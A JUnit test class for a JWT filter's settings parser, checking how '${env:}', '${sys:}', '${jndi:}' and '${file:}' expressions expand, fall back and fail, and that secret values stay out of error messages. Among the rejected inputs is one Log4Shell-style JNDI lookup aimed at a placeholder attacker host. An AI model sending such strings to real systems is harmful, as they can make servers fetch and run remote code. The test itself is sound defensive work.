package io.github.jwtfilter.settings.properties;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.jwtfilter.settings.LoadedSettings;
import io.github.jwtfilter.settings.SettingsUnderTest;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ExpansionTest {
    private final SettingsUnderTest settings = new SettingsUnderTest();

    ExpansionTest() {
        settings.environment
                .withVariable("NAME", "from-env")
                .withVariable("EMPTY", "")
                .withVariable("TRICK", "${env:NAME}")
                .withVariable("LIST", "a,b")
                .withProperty("my.name", "from-sys")
                .withJndi("java:comp/env/name", "from-jndi");
        settings.resources
                .with("name.txt", "from-file\n")
                .with("crlf.txt", "from-crlf\r\n")
                .with("two.txt", "two\n\n")
                .with("latin.bin", new byte[] {(byte) 0xe9})
                .with("large.txt", "x".repeat(64 * 1024 + 1));
    }

    @ParameterizedTest
    @CsvSource({
        "${env:NAME},from-env",
        "${sys:my.name},from-sys",
        "${jndi:java:comp/env/name},from-jndi",
        "${file:name.txt},from-file",
        "${file:crlf.txt},from-crlf",
        "a${env:NAME}b${sys:my.name}c,afrom-envbfrom-sysc",
        "${env:UNSET:-fallback},fallback",
        "${env:EMPTY:-fallback},fallback",
        "${sys:unset:-fallback},fallback",
        "${file:missing.txt:-fallback},fallback",
        "${jndi:java:comp/env/unset:-fallback},fallback",
        "${env:NAME:-fallback},from-env",
        "${env:UNSET:-a:-b},a:-b",
        "x${env:EMPTY}y,xy",
        "x${env:UNSET:-}y,xy",
        "$${env:NAME},${env:NAME}",
        "$$${env:NAME},$${env:NAME}",
        "${env:TRICK},${env:NAME}",
        "a$b},a$b}"
    })
    void replaces_expressions_once(String text, String expanded) {
        LoadedSettings loaded = settings.complete("challenge.realm = " + text);
        assertThat(loaded.problems().all()).isEmpty();
        assertThat(loaded.settings().challenge().realm()).isEqualTo(expanded);
    }

    @Test
    void reads_items_of_a_list_from_one_variable() {
        assertThat(settings.complete("claims.required = ${env:LIST}, c")
                        .settings()
                        .issuers()
                        .get(0)
                        .claims()
                        .required())
                .containsExactly("a", "b", "c");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${NAME}",
                "${}",
                "${env:}",
                "${sys:}",
                "${file:}",
                "${jndi:ldap://evil.example.com/x}",
                "${jndi:}",
                "${ENV:NAME}",
                "${script:x}",
                "${:-x}"
            })
    void rejects_an_unknown_expression(String text) {
        assertThat(settings.problems("challenge.realm = " + text))
                .singleElement()
                .asString()
                .contains(":4: challenge.realm: \"" + text + "\" contains an unknown ${...} expression; ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${env:NAME", "a${", "${env:A:-${env:B}}", "${env:A${env:NAME}}"})
    void rejects_an_expression_that_is_not_closed(String text) {
        assertThat(settings.problems("challenge.realm = " + text))
                .singleElement()
                .asString()
                .contains("contains ${ without a closing }");
    }

    @ParameterizedTest
    @CsvSource({
        "${env:UNSET},the environment variable \"UNSET\"",
        "${sys:unset},the system property \"unset\"",
        "${jndi:java:x},the JNDI entry \"java:x\""
    })
    void rejects_an_unset_variable(String text, String noun) {
        assertThat(settings.problems("challenge.realm = " + text))
                .singleElement()
                .asString()
                .contains("names " + noun + ", which is not set; set it, or add a default");
    }

    @Test
    void rejects_files_that_cannot_be_read() {
        assertThat(settings.problems("challenge.realm = ${file:missing.txt}"))
                .singleElement()
                .asString()
                .contains(
                        "names the file \"missing.txt\", which cannot be read: there is no file missing.txt; correct");
        assertThat(settings.problems("challenge.realm = ${file:large.txt:-x}"))
                .singleElement()
                .asString()
                .contains("large.txt is larger than 65536 bytes");
        assertThat(settings.problems("challenge.realm = ${file:latin.bin}"))
                .singleElement()
                .asString()
                .contains("which is not UTF-8 text");
    }

    @Test
    void rejects_an_empty_expansion() {
        assertThat(settings.problems("challenge.realm = ${env:EMPTY}"))
                .singleElement()
                .asString()
                .contains("\"${env:EMPTY}\" results in an empty text; set a value");
    }

    @Test
    void shows_the_expression_and_never_its_value() {
        settings.environment.withVariable("SKEW", "hunter2");
        LoadedSettings loaded = settings.complete("claims.clock-skew = ${env:SKEW}");
        assertThat(SettingsUnderTest.lines(loaded))
                .singleElement()
                .asString()
                .contains("\"${env:SKEW}\" is not a duration");
        assertThat(loaded.effectiveTable()).contains("${env:SKEW}").doesNotContain("hunter2");
    }

    @Test
    void removes_only_one_line_break_from_a_secret_file() {
        settings.resources.with("secret", " 0123456789 \n");
        byte[] secret = settings.read("issuer=any\naudience=any\nkeys.secret = ${file:secret}")
                .settings()
                .issuers()
                .get(0)
                .keys()
                .secret()
                .orElseThrow()
                .bytes();
        assertThat(new String(secret, StandardCharsets.UTF_8)).isEqualTo(" 0123456789 ");
        assertThat(settings.problems("challenge.realm = ${file:two.txt}")).isEmpty();
    }
}
